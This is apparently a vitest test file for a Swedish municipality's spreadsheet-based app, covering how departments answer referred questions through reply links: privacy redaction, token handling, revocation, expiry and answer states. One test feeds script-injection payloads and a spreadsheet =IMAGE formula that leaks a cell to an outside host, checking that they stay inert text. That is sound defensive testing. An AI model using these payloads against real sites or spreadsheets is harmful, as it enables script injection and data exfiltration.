import { beforeEach, describe, expect, test } from 'vitest';
import './support/patience.ts';
import { TestSheet } from './support/sheet.ts';
import { formOf, mainOf, submit, submitData, visit } from './support/web.ts';

let sheet: TestSheet;
let matter: string;
let referral: string;

const refer = (fields: Readonly<Record<string, unknown>> = {}): string => {
  sheet.done({
    type: 'refer',
    matter,
    organisation: 'trafikkontoret',
    question: 'När lagas lampan i tunneln? Ring Eva på 070-174 06 05.',
    ...fields,
  });
  return `${matter}/R1`;
};

const link = (about: { referral: string } | { organisation: string; dialogue?: string } = { referral }) => {
  const made = sheet.call('createReplyLink', about);
  if (!made.ok) throw new Error(made.message);
  return made;
};

const stateOf = () => sheet.card(matter)?.state;
const answered = { 'outcome-0': 'yes', 'text-0': 'Lampan byts den 4 maj.' };

beforeEach(() => {
  sheet = TestSheet.ready();
  matter = sheet.capture({
    text: 'Jag heter Eva Lind och bor på Ekgatan 3. Det är mörkt.',
    title: 'Mörkt i tunneln',
  });
  referral = refer();
});

describe('a reply link', () => {
  test('leads to the question, and to nothing about the resident', () => {
    const page = visit(sheet, link().address);
    const main = mainOf(page);
    expect(main).toContain('När lagas lampan i tunneln?');
    expect(main).toContain('[telefonnummer]');
    expect(main).toContain(matter);
    expect(page).not.toMatch(/070|Eva Lind|Ekgatan/);
    expect(page).toContain('<html lang="sv"');
  });

  test('is kept only as a hash, and its token has 144 bits', () => {
    const { address } = link();
    const token = new URL(address).searchParams.get('key') ?? '';
    expect(token).toMatch(/^[\w-]{24}$/);
    expect(JSON.stringify(sheet.state)).not.toContain(token);
    expect(new URL(link().address).searchParams.get('key')).not.toBe(token);
  });

  test('is listed, and works no more once it is revoked', () => {
    const { address, link: made } = link();
    const listed = sheet.call('listReplyLinks', { referral });
    expect(listed.ok && listed.links).toMatchObject([
      { id: made.id, state: 'active', by: 'anna.berg@example.se' },
    ]);
    const before = formOf(visit(sheet, address), referral);
    const revoked = sheet.call('revokeReplyLink', made.id);
    expect(revoked.ok && revoked.links[0]?.state).toBe('revoked');
    expect(mainOf(visit(sheet, address))).toContain('Länken är återkallad');
    expect(submitData(sheet, { ...before, ...answered })).toMatchObject({ reply: 'refused' });
    expect(stateOf()?.referrals[0]?.answered).toBeUndefined();
  });

  test('runs out on its day', () => {
    const { address, link: made } = link();
    sheet.now = Date.parse(made.expires) - 1;
    expect(mainOf(visit(sheet, address))).toContain('När lagas lampan');
    sheet.now += 1;
    expect(mainOf(visit(sheet, address))).toContain('Länken gällde till');
  });

  test('that is wrong says so, costs time, and tells nothing', () => {
    const { address } = link();
    const wrong = visit(sheet, `${address.slice(0, -4)}AAAA`);
    expect(mainOf(wrong)).toContain('Länken leder inte till någon fråga');
    expect(wrong).not.toContain(matter);
    expect(mainOf(visit(sheet, address.replace(/key=.*/, 'key=')))).toContain('leder inte');
  });

  test('cannot be made for a referral that is not there, or an organisation nobody knows', () => {
    expect(sheet.call('createReplyLink', { referral: `${matter}/R9` }).ok).toBe(false);
    expect(sheet.call('createReplyLink', { organisation: 'nobody' }).ok).toBe(false);
  });

  test('to a department shows all that it has been asked, and nobody else’s', () => {
    const first = matter;
    matter = sheet.capture({ title: 'Trasig gunga' });
    refer({ question: 'Vem lagar gungan?' });
    matter = sheet.capture({ title: 'Buller' });
    refer({ organisation: 'polisen', question: 'Hur ofta åker ni förbi?' });
    const main = mainOf(visit(sheet, link({ organisation: 'trafikkontoret' }).address));
    expect(main).toContain('När lagas lampan');
    expect(main).toContain('Vem lagar gungan?');
    expect(main).not.toContain('Hur ofta åker ni förbi');
    expect(main).toContain('2 frågor väntar på svar');
    expect(first).not.toBe(matter);
  });

  test('to the points of a dialogue shows those alone, with what was seen and its photo', () => {
    const dialogue = 'SKÄ-D-2026-0001';
    const item = (number: number) => `${dialogue}/I${number}`;
    const inputs = [
      {
        text: 'Lampan är släckt, säger Eva på 070-174 06 05',
        place: 'Torget',
        photo: 'https://foto.exempel/1',
      },
      { text: 'Buskarna skymmer' },
      { text: 'Ingen har frågat om den här' },
    ];
    const said = (command: Readonly<Record<string, unknown>>) =>
      expect(sheet.perform(command).result).toBe('done');
    said({
      type: 'plan_dialogue',
      form: 'trygghetsvandring',
      title: 'Vandring',
      lead: 'bo@exempel.se',
    });
    said({ type: 'add_inputs', dialogue, inputs });
    for (const number of [1, 2]) {
      matter = sheet.capture({ title: `Punkt ${number}` });
      said({ type: 'raise_inputs', dialogue, items: [item(number)], matter });
      refer({ question: 'Kan ni laga det?' });
    }
    const { address } = link({ organisation: 'trafikkontoret', dialogue });
    const main = mainOf(visit(sheet, address));
    expect(main).toContain('2 frågor väntar på svar');
    expect(main).toContain('Lampan är släckt, säger');
    expect(main).toContain('href="https://foto.exempel/1"');
    // What they took part in and how many, not the numbers of the sheet.
    expect(main).toContain('frågar för dem som var med på ”Vandring”. Här är 2 punkter');
    expect(main).toContain('Punkt 2 av 2');
    expect(main).not.toContain(`<dd>${matter}</dd>`);
    expect(main).not.toMatch(/070|När lagas lampan|Ingen har frågat/);
    const form = formOf(visit(sheet, address), `${matter}/R1`);
    expect(submitData(sheet, { ...form, ...answered })).toMatchObject({ reply: 'received' });
    // Another question to the same department is not theirs to answer by this link.
    const other = { ...form, referral };
    expect(submitData(sheet, { ...other, ...answered })).toMatchObject({ reply: 'refused' });
  });

  test('to one referral takes no answer to another', () => {
    const { address } = link();
    const other = `${matter}/R2`;
    sheet.done({ type: 'refer', matter, organisation: 'polisen', question: 'Hur ofta?' });
    const form = { ...formOf(visit(sheet, address), referral), referral: other };
    expect(submitData(sheet, { ...form, ...answered })).toMatchObject({ reply: 'refused' });
    expect(stateOf()?.referrals[1]?.reply).toBeUndefined();
  });
});

describe('an answer', () => {
  test('is entered in the matter, by the department, from the reply page', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const output = submitData(sheet, { ...form, ...answered });
    expect(output).toMatchObject({ reply: 'received' });
    expect(String(output.title)).toMatch(/^Mottaget 13 april klockan 1\d:\d\d$/);
    expect(stateOf()?.referrals[0]).toMatchObject({
      reply: { outcome: 'yes', text: 'Lampan byts den 4 maj.' },
      answered: '2026-04-13',
    });
    const event = sheet.rows('Händelser').find((row) => row.type === 'referral_answered');
    expect(event).toMatchObject({ source: 'Svarssidan' });
    expect(event?.by).toBe('Trafikkontoret');
    const page = mainOf(visit(sheet, link().address));
    expect(page).toContain('Allt är besvarat');
    expect(page).toContain('Lampan byts den 4 maj.');
  });

  test('without the page’s script gives a page', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const empty = submit(sheet, { ...form, 'outcome-0': 'no_with_reason', 'text-0': ' ' });
    expect(mainOf(empty.content)).toContain('Skriv skälet till att svaret är nej.');
    expect(mainOf(empty.content)).toMatch(/value="no_with_reason" checked/);
    expect(formOf(empty.content, referral).form).toBe(form.form);
    const shown = submit(sheet, { ...form, ...answered });
    expect(mainOf(shown.content)).toContain('Mottaget 13 april');
    expect(stateOf()?.referrals[0]?.answered).toBe('2026-04-13');
  });

  test('that it is done already is a yes that says so, with what was done', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const empty = submitData(sheet, { ...form, 'outcome-0': 'already_done', 'text-0': ' ' });
    expect(JSON.stringify(empty)).toContain('Skriv vad som gjordes');
    const done = { 'outcome-0': 'already_done', 'text-0': 'Lampan byttes i mars.' };
    expect(submitData(sheet, { ...form, ...done })).toMatchObject({ reply: 'received' });
    expect(stateOf()?.referrals[0]?.reply).toMatchObject({
      outcome: 'yes',
      text: 'Det är redan gjort. Lampan byttes i mars.',
    });
  });

  test('sent twice is one answer and two receipts', () => {
    const form = formOf(visit(sheet, link().address), referral);
    expect(submitData(sheet, { ...form, ...answered })).toMatchObject({ reply: 'received' });
    expect(submitData(sheet, { ...form, ...answered })).toMatchObject({ reply: 'received' });
    expect(sheet.rows('Händelser').filter((row) => row.type === 'referral_answered')).toHaveLength(1);
  });

  test('changed after it was sent is not taken for the first one', () => {
    const form = formOf(visit(sheet, link().address), referral);
    submitData(sheet, { ...form, ...answered });
    const output = submitData(sheet, { ...form, ...answered, 'text-0': 'Lampan byts aldrig.' });
    expect(output).toMatchObject({ reply: 'problems' });
    expect(JSON.stringify(output)).toContain('redan besvarad');
    expect(stateOf()?.referrals[0]?.reply?.text).toBe('Lampan byts den 4 maj.');
  });

  test('of two colleagues at once is the first one’s; the second is told', () => {
    const { address } = link();
    const one = formOf(visit(sheet, address), referral);
    const other = formOf(visit(sheet, address), referral);
    expect(one.form).not.toBe(other.form);
    expect(submitData(sheet, { ...one, ...answered })).toMatchObject({ reply: 'received' });
    const output = submitData(sheet, { ...other, 'outcome-0': 'no_with_reason', 'text-0': 'För dyrt.' });
    expect(JSON.stringify(output)).toContain('redan besvarad');
  });

  test('that only holds keeps the question open, with its day', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const holding = { 'outcome-0': 'holding', 'text-0': 'Vi mäter först.' };
    expect(submitData(sheet, { ...form, ...holding })).toMatchObject({
      reply: 'problems',
      problems: [{ field: 'expected-0' }],
    });
    expect(submitData(sheet, { ...form, ...holding, 'expected-0': '2026-04-01' })).toMatchObject({
      problems: [{ field: 'expected-0' }],
    });
    const output = submitData(sheet, { ...form, ...holding, 'expected-0': '2026-05-04' });
    expect(JSON.stringify(output)).toContain('Frågan står kvar');
    expect(stateOf()?.referrals[0]).toMatchObject({ reply: { outcome: 'holding' } });
    expect(stateOf()?.referrals[0]?.answered).toBeUndefined();
    expect(mainOf(visit(sheet, link().address))).toContain('Vi mäter först.');
  });

  test('to a question that was recalled is not thanked for', () => {
    const { address } = link();
    sheet.done({ type: 'recall_referral', matter, referral, reason: 'Frågan gick till fel kontor.' });
    const page = mainOf(visit(sheet, address));
    expect(page).toContain('Ni behöver inte svara');
    expect(page).not.toContain('Allt är besvarat');
  });

  test('to a matter that was closed meanwhile is not asked for, nor refused in the words of the sheet', () => {
    const { address } = link();
    const form = formOf(visit(sheet, address), referral);
    sheet.done({ type: 'close', matter, reason: 'Den boende hör inte av sig.' });
    const page = mainOf(visit(sheet, address));
    expect(page).toContain('Ni behöver inte svara');
    expect(page).toContain('avslutade ärendet');
    expect(page).not.toContain('<form');
    const late = JSON.stringify(submitData(sheet, { ...form, ...answered }));
    expect(late).toContain('Hör av er till stadsdelen');
    expect(late).not.toContain('Öppna det igen');
    const other = sheet.capture();
    sheet.done({ type: 'refer', matter: other, organisation: 'trafikkontoret', question: 'Och den andra?' });
    const list = mainOf(visit(sheet, link({ organisation: 'trafikkontoret' }).address));
    expect(list.indexOf('Och den andra?')).toBeLessThan(list.indexOf('När lagas lampan'));
    expect(list.split('<form')).toHaveLength(2);
    expect(list).toContain('<span class="only-read-aloud">: Mörkt i gångtunneln</span>');
  });

  test('to numbered questions may come one by one', () => {
    matter = sheet.capture();
    referral = refer({ question: 'Två frågor', questions: ['När?', 'Hur mycket?'] });
    const form = formOf(visit(sheet, link().address), referral);
    expect(submitData(sheet, form)).toMatchObject({ reply: 'problems' });
    submitData(sheet, { ...form, 'outcome-1': 'yes', 'text-1': 'I maj.' });
    expect(stateOf()?.referrals[0]?.answered).toBeUndefined();
    submitData(sheet, { ...form, 'outcome-2': 'no_with_reason', 'text-2': 'Pengarna finns inte.' });
    expect(stateOf()?.referrals[0]).toMatchObject({ answered: '2026-04-13', reply: { outcome: 'partly' } });
  });

  test('"not ours" points to somebody else', () => {
    const form = formOf(visit(sheet, link().address), referral);
    submitData(sheet, { ...form, 'outcome-0': 'not_ours', 'text-0': 'Polisens fråga.', 'to-0': 'polisen' });
    expect(stateOf()?.referrals[0]?.reply).toMatchObject({ outcome: 'not_ours', to: 'polisen' });
  });

  test.each([
    ['<script>alert(1)</script>', '&lt;script&gt;'],
    ['"><img src=x onerror=alert(1)>', '&quot;&gt;&lt;img'],
    ['=IMAGE("https://x.example/?"&A2)', '=IMAGE'],
    ['`//`', '&#96;//&#96;'],
  ])('%s stays text in the sheet and on the page', (text, shown) => {
    const form = formOf(visit(sheet, link().address), referral);
    expect(submitData(sheet, { ...form, 'outcome-0': 'yes', 'text-0': text })).toMatchObject({
      reply: 'received',
    });
    const page = mainOf(visit(sheet, link().address));
    expect(page).toContain(shown);
    expect(page).not.toMatch(/<script|<img/);
    const formulas = sheet
      .tab('Remisser')
      .cells.flatMap((row) => row?.map((cell) => cell?.formula ?? '') ?? []);
    expect(formulas.filter((formula) => formula !== '')).toEqual([]);
  });

  test('that is too long, or of a form that never was, is refused', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const long = submitData(sheet, { ...form, 'outcome-0': 'yes', 'text-0': 'å'.repeat(10_001) });
    expect(long).toMatchObject({ reply: 'problems', problems: [{ field: 'text-0' }] });
    expect(submitData(sheet, { ...form, form: 'x', ...answered })).toMatchObject({ reply: 'refused' });
    expect(submitData(sheet, { ...form, referral: '__proto__', ...answered })).toMatchObject({
      reply: 'refused',
    });
    expect(submitData(sheet, { ...answered })).toMatchObject({ reply: 'refused' });
  });

  test('from one link comes at most sixty times in ten minutes', () => {
    const form = formOf(visit(sheet, link().address), referral);
    const send = (text: string) =>
      submitData(sheet, { ...form, 'outcome-0': 'needs_more', 'text-0': text }).reply;
    const replies = Array.from({ length: 61 }, (_, index) => send(`Fråga ${index}`));
    expect(replies.slice(0, 60).every((reply) => reply === 'received')).toBe(true);
    expect(replies[60]).toBe('refused');
    sheet.now += 601_000;
    expect(send('Igen')).toBe('received');
  });
});

test('a visitor of the web app reaches none of the functions of the panels', () => {
  const visitor = (name: string, args: readonly unknown[]) =>
    sheet.run(name, args, { kind: 'get', parameters: {}, queryString: '' }, '');
  for (const name of ['readCard', 'perform', 'createReplyLink', 'readLetter', 'listReplyLinks', 'whoAmI']) {
    const result = visitor(name, []);
    expect(result.ok && result.value, name).toMatchObject({
      ok: false,
      message: expect.stringContaining('bara göras i arket'),
    });
  }
});

test('in English', () => {
  const main = mainOf(visit(sheet, `${link().address}&lang=en`));
  expect(main).toContain('Questions to Trafikkontoret');
  expect(main).toContain('What does it come to?');
});
